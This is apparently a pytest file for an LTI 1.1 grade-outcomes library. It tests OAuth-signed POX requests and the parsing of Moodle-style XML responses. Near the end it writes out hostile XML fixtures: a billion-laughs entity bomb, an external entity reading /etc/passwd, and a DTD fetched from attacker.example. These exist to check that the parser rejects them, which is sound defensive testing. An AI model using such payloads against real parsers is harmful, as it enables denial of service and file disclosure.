"""LTI 1.1 Basic Outcomes, plain data: the POX requests the tool signs and the answers it reads.

The signature is checked with oauthlib's server-side functions (what a consumer runs), the body hash
by hand as the OAuth Body Hash extension defines it; the answers are Moodle-shaped
(mod/lti/servicelib.php's lti_get_response_xml) or hostile (XML bombs, external entities).
"""

from __future__ import annotations

import base64
import hashlib
import math

import pytest
from oauthlib.common import Request as OAuthRequest
from oauthlib.oauth1 import SIGNATURE_HMAC_SHA1, SIGNATURE_TYPE_AUTH_HEADER, Client
from oauthlib.oauth1.rfc5849 import signature, utils

from lti_core.errors import LtiError
from lti_core.http import HttpRequest, HttpResponse
from lti_core.lti11.outcomes import (
    NAMESPACE,
    OutcomeError,
    OutcomeResult,
    build_delete_result,
    build_read_result,
    build_replace_result,
    format_score,
    parse_outcome_response,
)
from lti_core.types import BasicOutcome, Consumer

NOW = 1_760_000_000
URL = "https://moodle.example/mod/lti/service.php"
SOURCEDID = '{"data":{"instanceid":"7","userid":"2","typeid":"2","launchid":1462815330},"hash":"5e4e9e"}'
OUTCOME = BasicOutcome(URL, SOURCEDID)
CONSUMER = Consumer("moodle-key", "moodle-secret-0123456789")
ESCAPED = SOURCEDID.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

HEADER = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<imsx_POXEnvelopeRequest xmlns="http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0">'
    "<imsx_POXHeader><imsx_POXRequestHeaderInfo><imsx_version>V1.0</imsx_version>"
    "<imsx_messageIdentifier>msg-1</imsx_messageIdentifier></imsx_POXRequestHeaderInfo></imsx_POXHeader>"
)


def sha1_b64(body: bytes) -> str:
    """oauth_body_hash as the OAuth Body Hash extension defines it."""
    return base64.b64encode(hashlib.sha1(body).digest()).decode()  # noqa: S324 - the spec's hash


def oauth_params(request: HttpRequest) -> dict[str, str]:
    """The Authorization header's parameters, decoded (the header carries them percent-encoded)."""
    return {k: utils.unescape(v) for k, v in utils.parse_authorization_header(request.header("Authorization"))}


def consumer_verifies(request: HttpRequest, secret: str = CONSUMER.secret, url: str = URL) -> bool:
    """What a consumer checks: the OAuth signature over the header's parameters (oauthlib's server
    side), then that oauth_body_hash is the base64 SHA-1 of the body it received."""
    authorization = request.header("Authorization")
    oauth = OAuthRequest(url, http_method="POST")
    oauth.params = signature.collect_parameters(
        uri_query=url.partition("?")[2], headers={"Authorization": authorization}, exclude_oauth_signature=True
    )
    oauth.signature = oauth_params(request)["oauth_signature"]
    if not signature.verify_hmac_sha1(oauth, secret):
        return False
    expected = sha1_b64(request.body)
    return oauth_params(request)["oauth_body_hash"] == expected


# -- requests ---------------------------------------------------------------------------------


def test_replace_result_is_the_spec_pox_request():
    request = build_replace_result(OUTCOME, CONSUMER, 0.92, "msg-1", NOW)
    assert (request.method, request.url) == ("POST", URL)
    assert request.header("Content-Type") == "application/xml"
    assert request.body.decode("utf-8") == (
        HEADER + "<imsx_POXBody><replaceResultRequest><resultRecord>"
        f"<sourcedGUID><sourcedId>{ESCAPED}</sourcedId></sourcedGUID>"
        "<result><resultScore><language>en</language><textString>0.92</textString></resultScore></result>"
        "</resultRecord></replaceResultRequest></imsx_POXBody></imsx_POXEnvelopeRequest>"
    )


@pytest.mark.parametrize(
    ("build", "operation"), [(build_read_result, "readResult"), (build_delete_result, "deleteResult")]
)
def test_read_and_delete_carry_only_the_sourcedid(build, operation):
    request = build(OUTCOME, CONSUMER, "msg-1", NOW)
    assert request.body.decode("utf-8") == (
        HEADER + f"<imsx_POXBody><{operation}Request><resultRecord>"
        f"<sourcedGUID><sourcedId>{ESCAPED}</sourcedId></sourcedGUID>"
        f"</resultRecord></{operation}Request></imsx_POXBody></imsx_POXEnvelopeRequest>"
    )
    assert consumer_verifies(request)


def test_the_signature_and_body_hash_verify_as_a_consumer_checks_them():
    request = build_replace_result(OUTCOME, CONSUMER, 0.5, "msg-1", NOW, nonce="nonce-1")
    params = oauth_params(request)
    assert request.header("Authorization").startswith("OAuth ")
    assert params["oauth_consumer_key"] == "moodle-key"
    assert params["oauth_signature_method"] == "HMAC-SHA1"
    assert (params["oauth_timestamp"], params["oauth_nonce"], params["oauth_version"]) == (str(NOW), "nonce-1", "1.0")
    assert params["oauth_body_hash"] == sha1_b64(request.body)
    assert consumer_verifies(request)
    assert not consumer_verifies(request, secret="wrong-secret")
    assert not consumer_verifies(request, url=URL + "?x=1")
    assert "moodle-secret" not in repr(request)  # the secret signs; it is never sent


def test_the_body_hash_is_the_one_oauthlibs_client_makes():
    request = build_replace_result(OUTCOME, CONSUMER, 0.5, "msg-1", NOW, nonce="n")
    reference = Client(
        CONSUMER.key,
        client_secret=CONSUMER.secret,
        signature_method=SIGNATURE_HMAC_SHA1,
        signature_type=SIGNATURE_TYPE_AUTH_HEADER,
        timestamp=str(NOW),
        nonce="n",
    )
    _, headers, _ = reference.sign(URL, "POST", request.body.decode(), {"Content-Type": "application/xml"})
    assert oauth_params(HttpRequest("POST", URL, (("Authorization", headers["Authorization"]),))) == oauth_params(
        request
    )


def test_a_tampered_body_fails_the_body_hash_and_a_tampered_hash_the_signature():
    request = build_replace_result(OUTCOME, CONSUMER, 0.25, "msg-1", NOW)
    tampered = HttpRequest(request.method, request.url, request.headers, request.body.replace(b">0.25<", b">1.0<"))
    assert tampered.body != request.body
    assert not consumer_verifies(tampered)

    forged_hash = sha1_b64(tampered.body)
    authorization = request.header("Authorization")
    old = utils.escape(oauth_params(request)["oauth_body_hash"])
    forged = authorization.replace(old, utils.escape(forged_hash))
    headers = tuple((k, forged if k == "Authorization" else v) for k, v in request.headers)
    assert not consumer_verifies(HttpRequest("POST", URL, headers, tampered.body))


def test_the_service_urls_query_is_signed():
    url = "https://lms.example/outcomes?tool=7&x=a%20b"
    request = build_read_result(BasicOutcome(url, "s-1"), CONSUMER, "m", NOW)
    assert request.url == url
    assert consumer_verifies(request, url=url)


def test_sourcedid_and_message_id_are_escaped():
    outcome = BasicOutcome(URL, "a<b>&\"c'</sourcedId><x>")
    request = build_read_result(outcome, CONSUMER, "<m&>", NOW)
    body = request.body.decode()
    assert "<sourcedId>a&lt;b&gt;&amp;\"c'&lt;/sourcedId&gt;&lt;x&gt;</sourcedId>" in body
    assert "<imsx_messageIdentifier>&lt;m&amp;&gt;</imsx_messageIdentifier>" in body
    assert consumer_verifies(request)


def test_non_ascii_sourcedids_are_utf8():
    request = build_replace_result(BasicOutcome(URL, "élève-✓"), CONSUMER, 1, "m", NOW)
    assert "<sourcedId>élève-✓</sourcedId>".encode() in request.body
    assert b"<textString>1.0</textString>" in request.body
    assert consumer_verifies(request)


@pytest.mark.parametrize("value", ["s\x00", "s\x1b", "\ud800"])
def test_text_xml_cannot_carry_is_refused(value):
    with pytest.raises(LtiError) as info:
        build_read_result(BasicOutcome(URL, value), CONSUMER, "m", NOW)
    assert info.value.reason == "sourcedid_invalid"
    with pytest.raises(LtiError) as info:
        build_read_result(OUTCOME, CONSUMER, value, NOW)
    assert info.value.reason == "message_id_invalid"


@pytest.mark.parametrize(
    ("score", "text"), [(0, "0.0"), (1, "1.0"), (0.5, "0.5"), (1e-05, "0.00001"), (-0.0, "0.0"), (2 / 3, repr(2 / 3))]
)
def test_scores_are_plain_decimals(score, text):
    assert format_score(score) == text
    assert f"<textString>{text}</textString>".encode() in build_replace_result(OUTCOME, CONSUMER, score, "m", NOW).body


@pytest.mark.parametrize("score", [-0.01, 1.0000001, 2, -1, math.nan, math.inf, -math.inf, True, "0.5", None])
def test_scores_outside_0_1_are_refused(score, refused):
    with refused("score_out_of_range", 400):
        build_replace_result(OUTCOME, CONSUMER, score, "m", NOW)


def test_a_url_oauthlib_cannot_sign_is_refused(refused):
    with refused("outcome_url_invalid", 502):
        build_read_result(BasicOutcome("not a url", "s"), CONSUMER, "m", NOW)


# -- responses --------------------------------------------------------------------------------


def moodle_response(
    code_major: str = "success",
    description: str = "Grade replace response",
    response_type: str = "replaceResultResponse",
    body: str = "",
    namespace: str = NAMESPACE,
) -> bytes:
    """An answer as Moodle's lti_get_response_xml writes it (SimpleXML's asXML)."""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<imsx_POXEnvelopeResponse xmlns="{namespace}"><imsx_POXHeader><imsx_POXResponseHeaderInfo>'
        "<imsx_version>V1.0</imsx_version><imsx_messageIdentifier>1313355158</imsx_messageIdentifier>"
        f"<imsx_statusInfo><imsx_codeMajor>{code_major}</imsx_codeMajor><imsx_severity>status</imsx_severity>"
        f"<imsx_description>{description}</imsx_description>"
        "<imsx_messageRefIdentifier>msg-1</imsx_messageRefIdentifier>"
        "<imsx_operationRefIdentifier>replaceResultRequest</imsx_operationRefIdentifier></imsx_statusInfo>"
        "</imsx_POXResponseHeaderInfo></imsx_POXHeader>"
        f"<imsx_POXBody><{response_type}>{body}</{response_type}></imsx_POXBody></imsx_POXEnvelopeResponse>\n"
    ).encode()


def read_response(text: str) -> bytes:
    score = f"<result><resultScore><language>en</language><textString>{text}</textString></resultScore></result>"
    return moodle_response(description="Result read", response_type="readResultResponse", body=score)


def ok(body: bytes, status: int = 200) -> HttpResponse:
    return HttpResponse(status, (("Content-Type", "text/xml; charset=utf-8"),), body)


def test_success_is_read():
    assert parse_outcome_response(ok(moodle_response())) == OutcomeResult(True, "success", "Grade replace response")


@pytest.mark.parametrize(("text", "score"), [("0.92", 0.92), ("1", 1.0), ("0", 0.0), (" 0.5 ", 0.5), ("1.0E-5", 1e-5)])
def test_read_result_gives_the_score(text, score):
    assert parse_outcome_response(ok(read_response(text))) == OutcomeResult(True, "success", "Result read", score)


def test_read_result_without_a_grade_is_success_without_a_score():
    assert parse_outcome_response(ok(read_response(""))).score is None
    assert parse_outcome_response(ok(moodle_response(response_type="readResultResponse"))).score is None


def test_processing_is_no_failure_and_no_success():
    assert parse_outcome_response(ok(moodle_response("processing", "queued"))) == OutcomeResult(
        False, "processing", "queued"
    )


@pytest.mark.parametrize("code_major", ["failure", "unsupported", " Failure "])
def test_failure_and_unsupported_are_permanent_with_the_description(code_major, refused):
    with refused(f"outcome_{code_major.strip().lower()}", 502) as caught:
        parse_outcome_response(ok(moodle_response(code_major, "SourcedId hash not valid")))
    error = caught[0]
    assert isinstance(error, OutcomeError)
    assert not error.retryable and error.http_status == 200
    assert error.description == "SourcedId hash not valid"
    assert "SourcedId hash not valid" in error.detail


@pytest.mark.parametrize("status", [500, 502, 503, 504, 429])
def test_server_errors_and_throttling_are_retryable(status, refused):
    with refused("outcome_service_unavailable", 502) as caught:
        parse_outcome_response(ok(b"<html>busy</html>", status))
    assert caught[0].retryable and caught[0].http_status == status


@pytest.mark.parametrize("status", [400, 401, 403, 404, 405, 413, 302, 100])
def test_other_statuses_are_permanent(status, refused):
    with refused("outcome_request_rejected", 502) as caught:
        parse_outcome_response(ok(moodle_response(), status))
    assert not caught[0].retryable and caught[0].http_status == status


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<html><body>Moodle is in maintenance mode</body></html",
        b'{"success": true}',
        b"\xff\xfe<x/>",
        b'<?xml version="1.0" encoding="x-unknown"?><a/>',
        moodle_response()[:-40],
    ],
)
def test_non_xml_is_refused(body, refused):
    with refused("outcome_response_malformed", 502) as caught:
        parse_outcome_response(ok(body))
    assert not caught[0].retryable


@pytest.mark.parametrize(
    "body",
    [
        moodle_response(namespace="http://example.com/other"),
        moodle_response().replace(b' xmlns="' + NAMESPACE.encode() + b'"', b""),
        b'<imsx_POXEnvelopeRequest xmlns="' + NAMESPACE.encode() + b'"/>',
        moodle_response().replace(b"<imsx_codeMajor>success</imsx_codeMajor>", b""),
        moodle_response(code_major=""),
        moodle_response(code_major="great"),
        read_response("high"),
        read_response("nan"),
        read_response("inf"),
        read_response("1.5"),
        read_response("-0.1"),
        read_response("1" * 400),
        read_response("١"),
    ],
)
def test_answers_that_say_nothing_usable_are_refused(body, refused):
    with refused("outcome_response_malformed", 502):
        parse_outcome_response(ok(body))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<imsx_POXEnvelopeResponse xmlns="http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0">&lol4;</imsx_POXEnvelopeResponse>
"""
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    + moodle_response(description="&secret;").split(b"?>", 1)[1]
)
EXTERNAL_DTD = (
    b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd">' + moodle_response().split(b"?>", 1)[1]
)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD], ids=["bomb", "xxe", "dtd"])
def test_xml_bombs_and_entities_are_refused(body, refused):
    with refused("outcome_xml_forbidden", 502) as caught:
        parse_outcome_response(ok(body))
    assert not caught[0].retryable


def test_long_descriptions_are_cut():
    result = parse_outcome_response(ok(moodle_response("processing", "x" * 5000)))
    assert result.description == "x" * 512
